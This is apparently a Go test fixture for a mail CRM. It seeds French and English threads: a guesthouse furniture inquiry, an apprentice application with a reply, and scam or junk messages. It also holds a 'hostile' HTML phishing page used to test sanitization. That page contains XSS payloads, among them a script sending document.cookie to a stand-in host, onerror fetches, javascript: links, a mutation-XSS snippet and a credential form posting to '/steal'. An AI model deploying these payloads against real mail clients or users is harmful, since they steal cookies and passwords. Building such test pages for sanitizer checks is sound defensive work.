package mailcrmtest

// strangers are those whom the CRM does not know: some welcome, some not.
func (s *story) strangers() {
	clara := actor{
		name: "Clara Vasseur", address: "clara.vasseur@maison-vasseur.example", program: "Apple Mail (2.3826)",
		lines: []string{"Maison Vasseur – chambres d'hôtes", "2 chemin des Douaniers, 22700 Perros-Guirec", "06 39 98 74 20"},
	}
	t := s.talk("fr", "", "Cinq chambres à meubler en Bretagne")
	t.in(1, "09:36", clara, note{unread: true}, `Bonjour,

J'ouvre au printemps une maison d'hôtes de cinq chambres à Perros-Guirec, face à la mer. J'ai dormi le mois dernier à l'Hôtel Mercœur, dont j'ai retourné toutes les chaises pour trouver votre nom !

Travaillez-vous pour d'aussi petits projets ? Il me faudrait cinq lits, dix chevets, et une grande table pour les petits déjeuners. Mon budget est d'environ 14 000 €.

Vous pouvez me joindre au numéro ci-dessous, plutôt le matin.

Bien à vous,
Clara Vasseur`)

	t = s.talk("fr", "Archive", "Candidature : apprenti menuisier en sièges")
	t.in(21, "20:14", actor{name: "Julien Prigent", address: "julien.prigent@courriel.example", lines: []string{"06 39 98 02 47"}}, note{files: []file{{name: "CV Julien Prigent.pdf", kind: kindPDF, data: paper{
		from: "Julien Prigent", title: "CAP ébéniste – recherche apprentissage",
		rows: [][]string{{"Année", "", "", ""}, {"Stage : restauration de sièges, Quimper", "", "", ""}, {"Lycée professionnel, mention bien", "", "", ""}},
	}.pdf()}}}, `Madame, Monsieur,

Actuellement en dernière année de CAP, je cherche une entreprise pour un apprentissage de deux ans à partir de septembre. J'ai vu votre chaise Vague dans une revue et je l'ai refaite en maquette au dixième (photo sur demande).

Vous trouverez mon CV ci-joint. Je suis disponible pour un entretien quand vous le souhaitez.

Respectueusement,
Julien Prigent`)
	t.out(19, "12:05", note{}, `Bonjour Julien,

Merci pour votre candidature, et pour la maquette : envoyez la photo, toute l'équipe veut la voir. Sophie Leblanc, notre cheffe d'atelier, vous recevra volontiers. Elle vous écrit cette semaine.

Bien cordialement,
Jeanne Martin`)

	t = s.talk("en", "", "Invoice overdue - account will be suspended")
	t.in(2, "03:12", actor{name: "Support Facturation", address: "no-reply@securite-compte.example"}, note{unread: true, unsigned: true, html: hostile}, `Your account will be suspended. Open the HTML version of this message to confirm your password.`)

	for _, junk := range []struct {
		days        int
		clock       string
		name, from  string
		language    string
		title, text string
	}{
		{27, "02:40", "Service Colis", "avis@suivi-colis-express.example", "fr", "Votre colis est en attente (frais : 1,95 €)", "Bonjour,\n\nVotre colis n° 7K-338 est retenu dans notre entrepôt. Réglez 1,95 € de frais dans les 24 h pour le recevoir :\nhttps://suivi-colis-express.example/payer\n\nLe service client"},
		{10, "04:58", "Kevin from RankBoost", "kevin@rankboost.example", "en", "Quick question about demo.example", "Hi there,\n\nI was looking at your website and noticed 17 errors that keep you off the first page of Google. Can I send you the report? It is free.\n\nKevin"},
		{6, "23:59", "Loterie Nationale", "gagnant@loterie-nationale.example", "fr", "FÉLICITATIONS !!! Vous êtes notre gagnante", "Chère gagnante,\n\nVotre adresse a été tirée au sort et vous recevez la somme de 850 000 €. Répondez avec une copie de votre passeport pour débloquer les fonds.\n\nMaître Dupuis, huissier"},
	} {
		talk := s.talk(junk.language, "Junk", junk.title)
		talk.in(junk.days, junk.clock, actor{name: junk.name, address: junk.from}, note{forged: true, unsigned: true, unread: true}, junk.text)
	}
}

// hostile is what a page must survive: scripts, handlers, frames, forms, styles that load, links that run.
const hostile = `<!DOCTYPE html>
<html><head>
<base href="https://securite-compte.example/">
<meta http-equiv="refresh" content="0;url=https://securite-compte.example/login">
<link rel="stylesheet" href="https://securite-compte.example/s.css">
<style>@import url("https://securite-compte.example/i.css"); body{background:url(https://securite-compte.example/b.png)} .over{position:fixed;inset:0;z-index:9999}</style>
<script>document.location='https://securite-compte.example/?c='+document.cookie</script>
</head>
<body onload="alert('onload')">
<div class="over" style="position:fixed;top:0;left:0;width:100%;height:100%;background:url('https://securite-compte.example/o.png')"></div>
<h1>Your account will be suspended</h1>
<p>Dear customer, invoice <b>SC-20417</b> over &euro;489.00 was not paid. Please confirm your details.</p>
<img src="x" onerror="fetch('https://securite-compte.example/x')" alt="">
<img src="https://securite-compte.example/pixel.gif?u=jeanne" width="1" height="1" alt="">
<svg onload="alert('svg')"><script>alert('svg script')</script><a xlink:href="javascript:alert(1)"><text y="20">Invoice</text></a></svg>
<iframe src="https://securite-compte.example/frame"></iframe>
<object data="https://securite-compte.example/o.swf"></object>
<form action="https://securite-compte.example/steal" method="post"><input name="user" value="jeanne"><input type="password" name="password"><button>Confirm</button></form>
<p><a href="javascript:alert(document.domain)">View the invoice</a> or <a href="/logout" target="_top">contact us</a> or <a href="data:text/html,<script>alert(1)</script>">download it</a>.</p>
<math><mtext><table><mglyph><style><img src=x onerror=alert(2)></style></mglyph></table></mtext></math>
<video src="https://securite-compte.example/v.mp4" autoplay onplay="alert(3)"></video>
</body></html>
`
